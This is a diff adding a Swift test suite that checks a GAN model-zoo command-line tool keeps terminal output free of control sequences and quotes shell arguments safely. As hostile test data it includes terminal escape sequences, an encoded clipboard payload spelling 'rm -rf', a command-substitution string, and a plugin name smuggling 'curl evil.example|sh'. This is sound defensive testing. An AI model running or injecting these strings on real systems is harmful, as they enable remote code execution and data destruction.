@@ -1,0 +1,98 @@
+import Foundation
+import GANCore
+import GANMetrics
+import GANModule
+import GANTestSupport
+import GANTrain
+import Testing
+
+@testable import GANZooCLI
+
+/// What strangers' files say reaches the terminal as text.
+@Suite struct OutputTests {
+    private static let sources = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+        .deletingLastPathComponent().appending(path: "Sources/GANZooCLI")
+    private static let hostile = "\u{1B}[2J\u{1B}]52;c;cm0gLXJm\u{7}red\u{202E}\n"
+    private static let harmless = "\u{FFFD}[2J\u{FFFD}]52;c;cm0gLXJm\u{FFFD}red\u{FFFD}\u{FFFD}"
+
+    private let place: Workplace
+
+    init() throws { place = try Workplace() }
+
+    /// Two files alone write to standard output and standard error.
+    @Test func everythingIsPrintedOneWay() throws {
+        let writing = /(^|[^A-Za-z])(print|debugPrint|dump|fputs|puts|printf)\(|FileHandle\.standard[EO]|fdopen/
+        let manager = FileManager.default
+        let files = try #require(manager.enumerator(atPath: Self.sources.path)).compactMap { $0 as? String }
+            .filter { $0.hasSuffix(".swift") }
+        let others = try files.filter { file in
+            let text = try String(contentsOf: Self.sources.appending(path: file), encoding: .utf8)
+            return text.split(separator: "\n").contains { $0.contains(writing) }
+        }
+        #expect(files.count > 50)
+        #expect(others.sorted() == ["Terminal/Output.swift", "Terminal/TerminalLine.swift"])
+    }
+
+    @Test func namesOfRecipesAreText() throws {
+        try FileManager.default.createDirectory(atPath: place.path("lib"), withIntermediateDirectories: true)
+        try place.write("lib/n\u{1B}[31mred.yaml", "about: {summary: \"a\\e]0;owned\\x07b\"}\n")
+        let program = try Program.run("recipe", "list", environment: ["GANZOO_RECIPES": place.path("lib")])
+        #expect(program.status == 0, "\(program.errors)")
+        #expect(
+            program.output.hasPrefix("n\u{FFFD}[31mred")
+                && !program.output.contains { $0.isASCII && $0 < " " && $0 != "\n" })
+    }
+
+    /// Names of scores, classes and runs.
+    @Test func reportsAreText() throws {
+        var writer = SafetensorsWriter()
+        SmallClassifier.fashion(seed: 3).addState(to: &writer)
+        try writer.write(to: place.path("fmnist.safetensors"))
+        var report = EvaluationReport(
+            EvaluationProtocol(
+                try ExtractorName.fashion.extractor(SafetensorsFile(path: place.path("fmnist.safetensors"))),
+                EvaluationProtocol.Reference(name: Self.hostile, content: nil, count: 9, split: .test),
+                EvaluationProtocol.Samples(name: "s", count: 9), program: "test"))
+        report.scores = [Self.hostile: 1]
+        for name in ["a", "b"] { try EvaluationFile.write(report, to: place.path("\(name).json")) }
+        let program = try Program.run("compare", place.path("a.json"), place.path("b.json"))
+        #expect(program.status == 0, "\(program.errors)")
+        #expect(program.output.contains("\n\(Self.harmless)  1.0  1.0\n"), "\(program.output)")
+    }
+
+    @Test func linesForProgramsHoldNoControls() {
+        var line = JSONLine()
+        line.add("text", "\u{1B}\u{7F}\u{9B}é\n")
+        #expect(line.text == "{\"text\": \"\\u001b\\u007f\\u009bé\\u000a\"}")
+    }
+
+    // MARK: Commands to paste
+
+    /// As bash reads them.
+    @Test(arguments: [
+        "plain-1.0_a/b", "", "two words", "it's", "$(touch x); #", "\u{1B}]0;x\u{7}'\\", "a\nb", "~/x", "=x", "猫",
+        "r\u{202E}x", "*",
+    ]) func aShellReadsAWordAsItIs(_ word: String) throws {
+        let quoted = shellQuoted(word)
+        #expect(quoted.onOneLine == quoted)
+        let shell = try Program.run("/bin/bash", ["-c", "printf '%s' \(quoted)"], in: place.folder)
+        #expect(shell.output == word)
+    }
+
+    @Test func whatARunWasTrainedWithIsQuoted() throws {
+        struct Description: Encodable {
+            let data: DataFactsFile
+            let plugins: [String]
+        }
+        let facts = DatasetFacts(count: 0, channels: 1, height: 8, width: 8, labelKind: .none, labelSize: 0)
+        let plugins = ["x.so; curl evil.example|sh #"] + (0..<20).map { "\($0).so" }
+        let json = try JSONEncoder().encode(Description(data: DataFactsFile(facts), plugins: plugins))
+        try place.write("run.json", String(decoding: json, as: UTF8.self))
+        let error = #expect(throws: CommandFailure.self) { _ = try RunFile(place.folder.path).recipe() }
+        let hint = try #require(error?.description.split(separator: "\n").last)
+        #expect(
+            hint.hasPrefix(
+                "the run was trained with --plugin 'x.so; curl evil.example|sh #' --plugin 0.so --plugin 1.so "))
+        #expect(hint.hasSuffix(" --plugin 6.so …"))
+    }
+}
